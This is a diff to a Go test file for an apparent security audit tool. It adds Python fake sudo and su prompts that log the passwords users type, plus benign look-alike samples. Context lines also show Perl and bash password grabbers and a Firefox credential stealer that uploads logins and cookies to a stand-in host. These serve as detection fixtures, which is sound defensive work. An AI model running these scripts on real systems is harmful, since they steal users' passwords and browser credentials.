@@ -87,6 +87,11 @@ var stealthSeeds = []stealthSeed{
 	{"fake-prompt", RuleFakePrompt, audit.High, "/var/tmp/.passwd", "#!/usr/bin/perl\nprint 'Current password: ';\nsystem('stty', '-echo');\nmy $p = <STDIN>;\nsystem('stty', 'echo');\nopen(my $o, '>>', '/var/tmp/.pl');\nprint $o $p;\nprint \"\\npasswd: Authentication token manipulation error\\n\";\n"},
 	{"fake-prompt", RuleFakePrompt, audit.High, "", "cat > /usr/local/bin/sudo <<'EOF'\n#!/bin/bash\nread -s -p \"[sudo] password for $USER: \" p\necho \"$p\" >> /tmp/.s\necho; echo 'Sorry, try again.'\nEOF\nchmod +x /usr/local/bin/sudo"},
 
+	// Python prompts with the prompt in a variable, getpass() asking by itself, input() after
+	// stty -echo, the password appended by a shell command, the real program renamed
+	{"fake-prompt", RuleFakePrompt, audit.High, "/home/dev/.local/bin/sudo", "#!/usr/bin/env python\nimport os, sys, getpass\nuser = getpass.getuser()\nprompt = '[sudo] password for {0}: '.format(user)\nlog = '/tmp/.s/d.txt'\ndef grab():\n    pw = getpass.getpass(prompt)\n    f = open(log, 'a')\n    f.write('{0}:{1}\\n'.format(user, pw))\n    f.close()\n    return pw\nos.system('echo {0} | sudo -S {1}'.format(grab(), ' '.join(sys.argv[1:])))\n"},
+	{"fake-prompt", RuleFakePrompt, audit.High, "/usr/bin/sudoB", "import os, getpass, subprocess, sys\nuser = getpass.getuser()\nos.system('stty -echo')\npassword = input('[sudo] password for ' + user + ': ')\nos.system(\"echo \\\"\" + user + \":\" + password + \"\\\" >> /lib/.syslogbLog\")\nos.system('stty echo')\nsubprocess.Popen(['sudoA', '-S'] + sys.argv[1:], stdin=subprocess.PIPE).communicate(password + '\\n')\n"},
+	{"fake-prompt", RuleFakePrompt, audit.High, "/root/.cache/.p/su", "#!/usr/bin/python3\nimport getpass, subprocess, sys\np = getpass.getpass()\nwith open('/root/.cache/.p/.k', 'a') as f:\n    f.write(p + '\\n')\nsubprocess.run(['/bin/su.orig'] + sys.argv[1:])\n"},
 	// Browser credential stores copied or decrypted and sent.
 	{"browser-creds", RuleCredNear, audit.High, "/tmp/.b/b.py", pyChromeStealer},
 	{"browser-creds", RuleCredNear, audit.High, "/tmp/.b/f.py", "import glob, os, zipfile, requests\nz = zipfile.ZipFile('/tmp/.f.zip', 'w')\nfor p in glob.glob(os.path.expanduser('~/.mozilla/firefox/*.default*/')):\n    for n in ('logins.json', 'key4.db', 'cookies.sqlite'):\n        if os.path.exists(p + n):\n            z.write(p + n)\nz.close()\nrequests.post('https://203.0.113.9/up', files={'f': open('/tmp/.f.zip', 'rb')})\n"},
@@ -169,6 +174,8 @@ for i in range(0, len(enc), 60):
 
 // Clean shapes: the same tools, the way clean software uses them.
 var stealthClean = []struct{ name, path, text string }{
+	{"installer asking for a database password", "/usr/local/bin/app-setup", "import getpass, os, subprocess\npw = getpass.getpass()\nwith open('/etc/app/db.conf', 'a') as f:\n    f.write('password = ' + pw + '\\n')\nos.chmod('/etc/app/db.conf', 0o600)\nsubprocess.run(['/usr/bin/systemctl', 'restart', 'app'])\n"},
+	{"client asking for its password after stty -echo", "/usr/local/bin/vault-login", "#!/usr/bin/python3\nimport os, subprocess\nos.system('stty -echo')\npw = input('Vault password: ')\nos.system('stty echo')\nsubprocess.run(['vault', 'login', '-method=userpass', 'password=' + pw])\n"},
 	{"reproducible build", "/build/pkg/debian/rules.sh", "#!/bin/sh\nmake\nfind build -newer build/stamp -exec touch -d @$SOURCE_DATE_EPOCH {} +\ntouch -d \"@${SOURCE_DATE_EPOCH}\" build/out.tar"},
 	{"reference between build outputs", "/build/pkg/build.sh", "#!/bin/sh\ncp configure.ac.in configure.ac\ntouch -r configure.ac configure aclocal.m4 Makefile.in\ntouch -r debian/changelog build/out.tar"},
 	{"clock set by a test image", "/usr/local/bin/setup-test.sh", "#!/bin/sh\ndate -s '2030-01-01'\nrun-tests --out /tmp/results\n"},
